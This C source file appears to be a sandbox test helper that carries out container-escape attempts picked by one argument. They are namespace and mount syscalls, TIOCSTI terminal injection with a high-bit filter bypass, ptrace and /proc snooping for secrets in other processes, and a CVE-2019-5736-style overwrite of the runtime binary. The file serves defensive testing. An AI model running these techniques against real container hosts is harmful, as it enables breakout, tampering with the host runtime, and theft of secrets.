/*
 * What a hostile program tries inside a container. One word chooses the attempt; each prints a line
 * per try, which the tests read. Built static, so that any image can hold it.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static void tell(const char *what, long result)
{
	printf("%s %s\n", what, result == -1 ? strerrorname_np(errno) : "done");
}

/* Open descriptors; looking at them opens none. */
static int descriptors(void)
{
	for (int fd = 0; fd < 4096; fd++)
		if (fcntl(fd, F_GETFD) != -1)
			printf("%d\n", fd);
	return 0;
}

static int nothing(void *unused)
{
	(void)unused;
	return 0;
}

static void try_clone(const char *what, int flags)
{
	static char stack[64 << 10] __attribute__((aligned(16)));
	int pid = clone(nothing, stack + sizeof stack, flags | SIGCHLD, NULL);

	tell(what, pid);
	if (pid > 0)
		waitpid(pid, NULL, 0);
}

static int namespaces(void)
{
	char clone3_arguments[64] = {0};
	int own = open("/proc/self/ns/mnt", O_RDONLY);

	tell("unshare-user", unshare(CLONE_NEWUSER));
	tell("unshare-mount", unshare(CLONE_NEWNS));
	tell("unshare-both", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	tell("unshare-cgroup", unshare(CLONE_NEWCGROUP));
	try_clone("clone-user", CLONE_NEWUSER);
	try_clone("clone-both", CLONE_NEWUSER | CLONE_NEWNS);
	tell("clone3", syscall(SYS_clone3, clone3_arguments, sizeof clone3_arguments));
	tell("setns", setns(own, CLONE_NEWNS));
	tell("mount", mount("tmpfs", "/tmp", "tmpfs", 0, NULL));
	tell("remount", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
	tell("umount", umount2("/proc", MNT_DETACH));
	tell("pivot_root", syscall(SYS_pivot_root, ".", "."));
	tell("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	tell("fsconfig", syscall(SYS_fsconfig, 0, 6, NULL, NULL, 0));
	tell("fsmount", syscall(SYS_fsmount, 0, 0, 0));
	tell("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
	tell("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
	tell("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/tmp", 0));
	tell("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, NULL, 0));
	try_clone("twin-clone", 0);
	return 0;
}

static void try_terminal(const char *name, int fd)
{
	char key = 'Z', sub = 3;
	struct termios settings;

	if (fd == -1 || tcgetattr(fd, &settings) == -1) {
		printf("%s no-terminal\n", name);
		return;
	}
	printf("%s terminal\n", name);
	tell("TIOCSTI", ioctl(fd, TIOCSTI, &key));
	tell("TIOCLINUX", ioctl(fd, TIOCLINUX, &sub));
	/* The filter compares 32 bits, as the kernel does. */
	tell("TIOCSTI-high", syscall(SYS_ioctl, (long)fd, (1L << 32) | TIOCSTI, &key));
}

static int terminal(void)
{
	try_terminal("stdin", 0);
	try_terminal("stdout", 1);
	try_terminal("stderr", 2);
	try_terminal("tty", open("/dev/tty", O_RDWR | O_NOCTTY));
	return 0;
}

static int unknown(void)
{
	tell("unknown", syscall(4000));
	tell("unknown-high", syscall(0x3fffffff));
	tell("keyctl", syscall(SYS_keyctl, 0, 0, 0, 0, 0));
	tell("twin-getpid", syscall(SYS_getpid) > 0 ? 0 : -1);
	return 0;
}

static int next_other(DIR *proc)
{
	struct dirent *entry;

	while ((entry = readdir(proc)) != NULL) {
		int pid = atoi(entry->d_name);

		if (pid > 0 && pid != getpid())
			return pid;
	}
	return 0;
}

static int contains(const char *bytes, ssize_t length, const char *text)
{
	return length > 0 && memmem(bytes, length, text, strlen(text)) != NULL;
}

/*
 * Attaches to and looks into every other process, until killed. Our own programs are in /bin and
 * the small init in a memfd: whatever else can be looked into is the engine.
 */
static void look_into(int pid)
{
	char path[64], bytes[4096];
	ssize_t length;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	length = readlink(path, bytes, sizeof bytes - 1);
	if (length > 0) {
		bytes[length] = 0;
		if (strncmp(bytes, "/bin/", 5) != 0 && strncmp(bytes, "/memfd:hull-init", 16) != 0)
			printf("LEAK exe %s\n", bytes);
		else
			printf("saw %s\n", bytes);
	} else if (errno == EACCES || errno == EPERM) {
		printf("denied\n");
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, NULL, __WALL);
			length = readlink(path, bytes, sizeof bytes - 1);
			bytes[length < 0 ? 0 : length] = 0;
			/* It may have become our program between the two. */
			if (!strstr(bytes, "/bin/") && !strstr(bytes, "memfd:"))
				printf("LEAK ptrace %s\n", bytes);
			ptrace(PTRACE_DETACH, pid, 0, 0);
		}
	}
	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY);
	if (fd != -1) {
		length = read(fd, bytes, sizeof bytes);
		if (contains(bytes, length, "CANARY"))
			printf("LEAK environ\n");
		close(fd);
	}
	fflush(stdout);
}

static int attach(void)
{
	for (;;) {
		DIR *proc = opendir("/proc");
		int pid;

		while ((pid = next_other(proc)) != 0)
			look_into(pid);
		closedir(proc);
	}
	return 0;
}

/* Opens the program of every other process, then keeps trying to write to it (CVE-2019-5736). */
static int overwrite(void)
{
	int held[64], count = 0;

	for (;;) {
		DIR *proc = opendir("/proc");
		char path[64], name[256];
		int pid, fd;

		while ((pid = next_other(proc)) != 0) {
			ssize_t length;

			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd == -1)
				continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			length = readlink(path, name, sizeof name - 1);
			name[length < 0 ? 0 : length] = 0;
			if (strncmp(name, "/bin/", 5) == 0) {
				close(fd);
				continue;
			}
			printf("saw %s\n", name);
			if (count == 64) {
				close(held[0]);
				memmove(held, held + 1, sizeof held - sizeof *held);
				count--;
			}
			held[count++] = fd;
		}
		closedir(proc);
		for (int i = 0; i < count; i++) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd == -1)
				continue;
			if (pwrite(fd, "#!pwned", 7, 0) == 7)
				printf("WROTE\n");
			close(fd);
		}
		fflush(stdout);
	}
	return 0;
}

int main(int count, char **words)
{
	static const struct {
		const char *name;
		int (*run)(void);
	} attempts[] = {
		{"descriptors", descriptors}, {"namespaces", namespaces}, {"terminal", terminal},
		{"unknown", unknown},	      {"attach", attach},	  {"overwrite", overwrite},
	};

	for (size_t i = 0; count > 1 && i < sizeof attempts / sizeof *attempts; i++)
		if (strcmp(words[1], attempts[i].name) == 0)
			return attempts[i].run();
	return 2;
}
